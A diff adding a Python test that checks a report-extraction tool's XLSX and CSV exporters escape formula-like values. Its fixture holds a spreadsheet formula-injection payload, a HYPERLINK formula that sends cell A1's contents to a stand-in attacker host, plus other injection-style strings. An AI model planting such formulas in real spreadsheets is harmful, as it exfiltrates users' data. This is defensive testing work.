@@ -369,3 +369,24 @@ def test_an_error_line_shows_a_file_name_s_control_characters_escaped(tmp_path: 
     src.write_text("", "utf-8")
     r = run("extract", str(src), "--tagger", "rules", cwd=tmp_path)
     assert r.returncode == 1 and "\x1b" not in r.stderr and "bad\\x1b[2Jname.txt" in r.stderr, r.stderr
+
+
+def test_a_title_that_reads_as_a_formula_is_text_in_xlsx_and_csv() -> None:
+    # the organ is read from the title: "=HYPERLINK(...)局" became a live formula in every cell of the
+    # cells sheet and the captions (openpyxl stores a string starting with "=" as a formula), and a
+    # formula in the CSV that Excel runs
+    from openpyxl import load_workbook
+
+    from govreport.extraction.export import inert_field
+    from govreport.extraction.export_xlsx import to_xlsx
+
+    organ = '=HYPERLINK("http://evil.example/"&A1,"点此")局'
+    out = {"template": None, "organ": organ, "year": 2020, "tables": {"t": {"r": {"c": -1}}},
+           "warnings": ["@SUM(1)"], "checks": []}  # fmt: skip
+    wb = load_workbook(io.BytesIO(to_xlsx(out, "+r.txt")))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert organ in [c.value for c in cells] and "@SUM(1)" in [c.value for c in cells]
+    rows = list(csv.DictReader(io.StringIO(cells_csv(tidy_cells(out, "+r.txt")))))
+    assert rows[0]["organ"] == "'" + organ and rows[0]["source"] == "'+r.txt" and rows[0]["value"] == "-1"
+    assert [inert_field(v) for v in ("-", "-12", "+3.5", "1,234", "-5%", "-a", "@x", 7)] == ["-", "-12", "+3.5", "1,234", "-5%", "'-a", "'@x", 7]
